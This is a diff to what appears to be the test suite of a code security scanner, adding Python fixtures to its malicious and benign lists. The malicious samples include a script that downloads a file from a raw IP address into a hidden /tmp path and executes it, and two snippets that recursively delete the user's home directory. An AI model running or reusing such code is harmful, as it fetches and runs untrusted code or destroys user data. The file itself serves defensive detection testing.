@@ -59,6 +59,33 @@ const MALICIOUS: [name: string, files: Files, ruleId: string, worst: Severity][]
     'critical',
   ],
   [
+    'a function that saves a download is called inline as the program to run',
+    {
+      'g.py':
+        'import os, subprocess, urllib.request\n\nURL = "http://203.0.113.5/x"\n\ndef get():\n    dst = "/tmp/.x"\n    data = urllib.request.urlopen(URL).read()\n    with open(dst, "wb") as f:\n        f.write(data)\n    os.chmod(dst, 0o755)\n    return dst\n\nsubprocess.call(get())\n',
+    },
+    'SS-DOWNLOAD-EXEC',
+    'critical',
+  ],
+  [
+    'a helper that rmtrees each path of its parameter, called with a list holding the home',
+    {
+      'n.py':
+        'import shutil\nfrom pathlib import Path\n\ndef nuke(paths):\n    for p in paths:\n        shutil.rmtree(p)\n\nnuke([Path.home()])\n',
+    },
+    'SS-DESTRUCTIVE',
+    'critical',
+  ],
+  [
+    'a method that runs rm -rf on its parameter, called with a variable holding the home',
+    {
+      'j.py':
+        'import os, subprocess\n\nclass Janitor:\n    def purge(self, target, dry=False):\n        subprocess.run(["rm", "-rf", str(target)])\n\nHOME = os.path.expanduser("~")\nJanitor().purge(HOME)\n',
+    },
+    'SS-DESTRUCTIVE',
+    'critical',
+  ],
+  [
     'pickle of a response read inside with urlopen(...) as resp',
     {
       'feat.py':
@@ -154,6 +181,14 @@ const BENIGN: [name: string, files: Files, worst: Severity | 'none'][] = [
     {
       'b.py':
         'import shutil\nfrom pathlib import Path\n\nfor d in (Path.home(),):\n    print(d)\nd = "build"\nshutil.rmtree(d)\n',
+    },
+    'none',
+  ],
+  [
+    'a helper that rmtrees each path of its parameter, called with caches under home',
+    {
+      'h.py':
+        'import shutil\nfrom pathlib import Path\n\ndef nuke(paths):\n    for p in paths:\n        shutil.rmtree(p)\n\nnuke([Path.home() / ".cache" / "x", "build"])\n',
     },
     'none',
   ],
